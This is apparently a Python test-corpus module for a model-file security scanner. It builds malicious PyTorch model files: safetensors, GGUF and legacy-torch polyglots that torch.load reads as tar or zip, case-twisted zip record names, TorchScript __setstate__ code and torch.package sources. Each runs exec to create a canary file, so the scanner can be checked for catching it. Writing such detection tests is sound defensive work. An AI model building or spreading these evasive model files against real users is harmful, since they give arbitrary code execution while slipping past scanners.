"""Files torch.load reads another way than the scan did: polyglots, zip names, TorchScript code (issue 27, class 2).

Each payload is a file that one reader takes for a harmless format (safetensors, GGUF, a legacy ``torch.save``
stream, a zip whose ``data.pkl`` is spelled otherwise) while ``torch.load`` dispatches it elsewhere: to a zip
(``_is_zipfile``: the first four bytes), to a legacy tar (``tarfile.open`` is tried before any pickle), to
miniz's case-insensitive record lookup, or to ``torch.jit.load`` (``constants.pkl`` in the archive). Names of a
``.safetensors`` path are loaded by safetensors itself, so every polyglot is named (or proven through a name) that
``torch.load`` unpickles.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

from tests.security.corpus import Hostile, _pickles, code_payload, gadgets, program, rebuild, text

KLASS = "readings"
_ONE = struct.pack("<f", 1.0)


def _exec(marker: Path) -> bytes:
    """The body of a pickle that runs ``exec`` creating ``marker`` (its result on the stack)."""
    return gadgets(marker)["exec"][1]


def _weights_and(body: bytes, storage_key: str = "0") -> bytes:
    """``{"w": <a float tensor of storage key>, "x": body}``: a real weight beside the payload."""
    return program(b"}(" + text("w") + rebuild((1,), (1,), 0, 1, storage_key) + text("x") + body + b"u")


def named_zip(path: Path, records: list[tuple[str, bytes]]) -> Path:
    """A stored zip of exactly these records, in this order (names as given: any case, duplicates allowed)."""
    import warnings

    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name": wanted
        for name, data in records:
            archive.writestr(name, data)
    return path


class _Payload:
    def __init__(self, marker: Path) -> None:
        self.code = code_payload(marker)

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (self.code,)


def tar_stream(members: dict[str, bytes]) -> bytes:
    """A tar holding ``members`` (regular files), as ``tarfile`` writes it."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _storages_payload(marker: Path) -> bytes:
    """A legacy tar's ``storages`` member: torch.load unpickles its first pickle (the storage count) at once."""
    return pickle.dumps(_Payload(marker), protocol=0)  # protocol 0: ASCII only, fits in a GGUF string too


def _header_fields(size: int) -> dict[int, bytes]:
    """Printable (JSON-safe) numeric fields of a regular member of ``size`` bytes, space-padded octal."""
    return {
        100: b"0000644 ",
        108: b"0000000 ",
        116: b"0000000 ",
        124: b"%011o " % size,
        136: b"00000000000 ",
        156: b"0",
        329: b"0000000 ",  # devmajor and devminor: parsed as numbers whatever the type
        337: b"0000000 ",
    }


def safetensors_tar(path: Path, marker: Path) -> Path:
    """A valid safetensors file whose first 512 bytes are also a tar header: the header's numeric fields sit in
    the first tensor's name, its member spans the rest of the JSON header, and the next tar header, a
    ``storages`` member holding the payload, is the data of a uint8 tensor."""
    stream = tar_stream({"storages": _storages_payload(marker)})
    length = 1024 - 8  # the JSON header ends at byte 1024: the second tar header starts the data section
    key = bytearray(b"." * 420)  # bytes 10.. of the file: the tar fields from 100 to 511 fall inside it
    for offset, value in _header_fields(1024 - 512).items():
        key[offset - 10 : offset - 10 + len(value)] = value
    entry = {"dtype": "U8", "shape": [len(stream)], "data_offsets": [0, len(stream)]}
    header = b'{"' + bytes(key) + b'":' + json.dumps(entry).encode() + b"}"
    header = header.ljust(length)
    data = bytearray(struct.pack("<Q", length) + header + stream)
    # the checksum stays JSON-safe: six octal digits and two spaces (tarfile reads up to a NUL or the end)
    data[148:156] = b"%06o  " % sum(data[:148] + b" " * 8 + data[156:512])
    path.write_bytes(bytes(data))
    return path


def safetensors_zip(path: Path, marker: Path) -> Path:
    """A valid safetensors file that starts with ``PK\\x03\\x04`` (its header length: 0x04034b50, 67 MB of JSON,
    the smallest such length) and whose only tensor, uint8 to the end of the file, is a torch zip: torch.load
    sees the zip magic, miniz finds the zip's end record at the end of the file, and runs its data.pkl."""
    length = struct.unpack("<Q", b"PK\x03\x04\0\0\0\0")[0]
    zipped = io.BytesIO()
    base = 8 + length
    pickled = _weights_and(_exec(marker))
    with zipfile.ZipFile(zipped, "w", compression=zipfile.ZIP_STORED) as archive:
        for name, data in (("z/data.pkl", pickled), ("z/data/0", _ONE), ("z/version", b"3\n")):
            archive.writestr(name, data)
    raw = _relocate(zipped.getvalue(), base)
    entry = {"dtype": "U8", "shape": [len(raw)], "data_offsets": [0, len(raw)]}
    header = json.dumps({"zip": entry}).encode().ljust(length)
    with path.open("wb") as out:
        out.write(struct.pack("<Q", length))
        out.write(header)
        out.write(raw)
    return path


def _relocate(archive: bytes, base: int) -> bytes:
    """A zip whose offsets (central directory entries, end record) are shifted by ``base``: it then reads the
    same when it starts ``base`` bytes into a file."""
    out = bytearray(archive)
    end = out.rindex(b"PK\x05\x06")
    count, _size, start = struct.unpack_from("<HII", out, end + 10)
    at = start
    for _ in range(count):
        (header_at,) = struct.unpack_from("<I", out, at + 42)
        struct.pack_into("<I", out, at + 42, header_at + base)
        name, extra, comment = struct.unpack_from("<HHH", out, at + 28)
        at += 46 + name + extra + comment
    struct.pack_into("<I", out, end + 16, start + base)
    return bytes(out)


def gguf_tar(path: Path, marker: Path) -> Path:
    """A valid GGUF v3 file (one float32 tensor) whose first metadata value, a string, holds a tar header's
    fields from byte 100 and a whole tar after it: torch.load tries ``tarfile.open`` first and runs the payload
    of its ``storages`` member."""
    key = b"general.description" + b"_" * (56 - len("general.description"))  # ends at byte 88
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, 1) + struct.pack("<Q", len(key)) + key  # 88 bytes
    stream = tar_stream({"storages": _storages_payload(marker)})
    value_length = 512 - 100 + len(stream)  # from byte 100 to the end of the embedded tar
    head += struct.pack("<I", 8) + struct.pack("<Q", value_length)
    assert len(head) == 100
    block = bytearray(head + b"." * (512 - 100))
    for offset, field in _header_fields(0).items():
        block[offset : offset + len(field)] = field
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    body = bytes(block) + stream
    name = b"w"
    body += struct.pack("<Q", len(name)) + name + struct.pack("<I", 1) + struct.pack("<Q", 1)
    body += struct.pack("<IQ", 0, 0)  # F32 at offset 0
    body += b"\x00" * (-len(body) % 32)
    path.write_bytes(body + _ONE)
    return path


def legacy_tar_polyglot(path: Path, marker: Path) -> Path:
    """A legacy ``torch.save`` stream (the scan reads it as one) whose first 512 bytes are also a tar header:
    its fields sit in a string of the sys_info pickle, and its member spans up to a uint8 tensor's raw storage,
    which holds a tar ``storages`` member with the payload."""
    import torch

    stream = tar_stream({"storages": _storages_payload(marker)})
    torch.save(
        {"w": torch.ones(1), "tar": torch.frombuffer(bytearray(stream), dtype=torch.uint8)},
        path,
        _use_new_zipfile_serialization=False,
    )
    original = path.read_bytes()
    sys_at, sys_end = _pickles(original)[2]

    def with_filler(length: int) -> bytearray:
        replacement = (
            b"\x80\x02}("
            + text("pad")
            + b"X"
            + struct.pack("<I", length)
            + b"." * length  # from byte 35 to past 512: the tar header's fields are written into it
            + text("little_endian")
            + b"\x88"
            + text("protocol_version")
            + b"M\xe9\x03"
            + text("type_sizes")
            + b"}("
            + b"".join(text(kind) + b"K" + bytes([size]) for kind, size in (("int", 4), ("long", 8), ("short", 2)))
            + b"uu."
        )
        return bytearray(original[:sys_at] + replacement + original[sys_end:])

    first = with_filler(600).index(stream)
    data = with_filler(600 + (-first % 512))  # the storage's bytes (the second tar header) on a block boundary
    where = data.index(stream)
    assert where % 512 == 0
    assert sys_at + 4 + 5 + 5 < 100  # the filler starts inside the tar's name field
    fields = _header_fields(where - 512)
    for offset, value in fields.items():
        data[offset : offset + len(value)] = value
    data[148:156] = b" " * 8
    data[148:156] = b"%06o\0 " % sum(data[:512])
    path.write_bytes(bytes(data))
    return path


PACKAGED_SOURCE = """\
import torch

if "__torch_package__" in globals():  # only when PackageImporter runs it, not when the corpus is built
    {payload}


class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(2, 3)

    def forward(self, x):
        return self.fc(x)
"""


def packaged_module(path: Path, marker: Path) -> Path:
    """A ``torch.package`` archive of a whole ``nn.Module`` whose class the archive interns (its source is in the
    archive): ``PackageImporter.load_pickle`` compiles and runs that source, which creates ``marker``."""
    import hashlib
    import importlib
    import shutil
    import sys
    import warnings

    import torch
    from torch.package.package_exporter import PackageExporter

    name = "packaged_" + hashlib.sha256(str(path).encode()).hexdigest()[:12]
    source = path.parent / f"{path.stem}-source"
    source.mkdir(exist_ok=True)
    (source / f"{name}.py").write_text(PACKAGED_SOURCE.format(payload=code_payload(marker)))
    sys.path.insert(0, str(source))
    try:
        module = importlib.import_module(name)
        torch.manual_seed(0)
        with warnings.catch_warnings(), PackageExporter(str(path)) as exporter:
            warnings.simplefilter("ignore")  # (torch.package pickles TypedStorage, which torch deprecates)
            exporter.extern("torch.**")
            exporter.intern(name)
            exporter.save_pickle("model", "model.pkl", module.Net())
    finally:
        sys.path.remove(str(source))
        sys.modules.pop(name, None)
        shutil.rmtree(source, ignore_errors=True)
    return path


def packaged_state_dict(path: Path) -> Path:
    """A ``torch.package`` archive of a plain state_dict: nothing of it is code."""
    import warnings

    import torch
    from torch.package.package_exporter import PackageExporter

    with warnings.catch_warnings(), PackageExporter(str(path)) as exporter:
        warnings.simplefilter("ignore")
        exporter.extern("torch.**")
        exporter.save_pickle("model", "state.pkl", {"w": torch.ones(2), "b": torch.zeros(3, dtype=torch.float16)})
    return path


def scripted_setstate(path: Path, marker: Path) -> Path:
    """A TorchScript module whose ``__setstate__`` (compiled and run by torch.jit.load) creates ``marker``."""
    import torch

    source = f"""
import torch

class Hooked(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.nn.Parameter(torch.ones(2))

    def forward(self, x):
        return x * self.w

    @torch.jit.export
    def __getstate__(self):
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]):
        self.w = state[0] + torch.from_file({str(marker)!r}, shared=True, size=1).sum() * 0
        self.training = state[1]
"""
    import importlib.util
    import sys

    module_path = path.with_suffix(".src.py")
    module_path.write_text(source)
    spec = importlib.util.spec_from_file_location(f"_ts_{path.stem.replace('-', '_')}", module_path)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # torch.jit.script reads the class's source through its module
    spec.loader.exec_module(module)
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # torch.jit.script and save are deprecated: still what attackers ship
        torch.jit.save(torch.jit.script(module.Hooked()), str(path))
    module_path.unlink()
    return path


def _sharded(folder: Path, shard_name: str, writer: object, marker: Path) -> Path:
    """A Hugging Face sharded folder (``pytorch_model.bin.index.json``) whose one shard is ``writer``'s file."""
    folder.mkdir()
    shard: Path = writer(folder / shard_name, marker)  # type: ignore[operator]
    raw = shard.read_bytes()
    (length,) = struct.unpack("<Q", raw[:8])
    names = [name for name in json.loads(raw[8 : 8 + length]) if name != "__metadata__"]
    index = {"metadata": {"total_size": len(raw) - 8 - length}, "weight_map": dict.fromkeys(names, shard_name)}
    (folder / "pytorch_model.bin.index.json").write_text(json.dumps(index))
    return shard


def build(folder: Path) -> list[Hostile]:
    out: list[Hostile] = []

    def add(name: str, target: Path, loads: Path, loader: str = "torch.load") -> None:
        marker = folder / f"canary-{name}"
        hostile = Hostile(name, KLASS, ("scan-model", str(target)), frozenset({1}), marker, loads, loader=loader)
        out.append(hostile)

    def mark(name: str) -> Path:
        return folder / f"canary-{name}"

    # --- polyglots: another format that torch.load reads as a zip or a legacy tar --------------------------
    for name, writer in (
        ("safetensors-tar-polyglot", safetensors_tar),
        ("gguf-tar-polyglot", gguf_tar),
        ("legacy-tar-polyglot", legacy_tar_polyglot),
        ("safetensors-zip-polyglot", safetensors_zip),
    ):
        path = writer(folder / f"{name}.bin", mark(name))
        add(name, path, path)
    shard = _sharded(folder / "polyglot-shard", "pytorch_model-00001-of-00001.bin", safetensors_tar,
                     mark("polyglot-shard"))  # fmt: skip
    add("polyglot-shard", shard.parent, shard)
    lone = folder / "polyglot-lone-file"
    lone.mkdir()
    add("polyglot-lone-file", lone, gguf_tar(lone / "pytorch_model.bin", mark("polyglot-lone-file")))

    # --- zip record names as miniz matches them (case-insensitive) ----------------------------------------
    for spelling in ("Data.pkl", "DATA.PKL"):
        name = f"zip-{spelling.replace('.', '-')}"
        records = [(f"archive/{spelling}", _weights_and(_exec(mark(name)))), ("archive/data/0", _ONE)]
        path = named_zip(folder / f"{name}.pt", [*records, ("archive/version", b"3\n")])
        add(name, path, path)
    name = "zip-upper-storages"
    path = named_zip(
        folder / f"{name}.pt",
        [("archive/data.pkl", _weights_and(_exec(mark(name)))), ("archive/DATA/0", _ONE), ("archive/version", b"3\n")],
    )
    add(name, path, path)
    name = "zip-case-twin-data-pkl"
    benign_pickle = _weights_and(b"N")
    records = [
        ("archive/data.pkl", benign_pickle),
        ("archive/DATA.PKL", _weights_and(_exec(mark(name)))),
        ("archive/data/0", _ONE),
        ("archive/version", b"3\n"),
    ]
    path = named_zip(folder / f"{name}.pt", records)
    add(name, path, path)
    side = folder / "zip-DATA-PKL-side-file"
    side.mkdir()
    import torch
    from safetensors.torch import save_file

    save_file({"w": torch.ones(2)}, side / "model.safetensors")
    records = [("archive/DATA.PKL", program(_exec(mark("zip-DATA-PKL-side-file")))), ("archive/version", b"3\n")]
    add("zip-DATA-PKL-side-file", side, named_zip(side / "optimizer.pt", records))

    # --- TorchScript whose code torch.jit.load compiles and runs -------------------------------------------
    script = scripted_setstate(folder / "torchscript-setstate.pt", mark("torchscript-setstate"))
    add("torchscript-setstate", script, script, loader="jit.load")
    script = scripted_setstate(folder / "torchscript-via-torch-load.pt", mark("torchscript-via-torch-load"))
    add("torchscript-via-torch-load", script, script)

    # --- torch.package: PackageImporter runs the module source the archive interns ------------------------
    package = packaged_module(folder / "torch-package-interned.pt", mark("torch-package-interned"))
    add("torch-package-interned", package, package, loader="package.load")

    # --- benign look-alikes: must pass ----------------------------------------------------------------------
    plain = folder / "benign-storages-named.safetensors"
    save_file({"storages": torch.ones(2), "tensors": torch.zeros(3)}, plain)  # a tar member's name, nothing more
    out.append(Hostile("benign-storages-named", KLASS, ("scan-model", str(plain)), frozenset({0}), benign=True,
                       loader="none"))  # fmt: skip
    upper = folder / "benign-upper-case-zip.pt"
    torch.save({"w": torch.ones(2)}, upper)
    out.append(Hostile("benign-torch-zip", KLASS, ("scan-model", str(upper)), frozenset({0}), benign=True,
                       loader="none"))  # fmt: skip
    plain_package = packaged_state_dict(folder / "benign-torch-package.pt")
    out.append(Hostile("benign-torch-package", KLASS, ("scan-model", str(plain_package)), frozenset({0}),
                       benign=True, loader="none"))  # fmt: skip
    return out
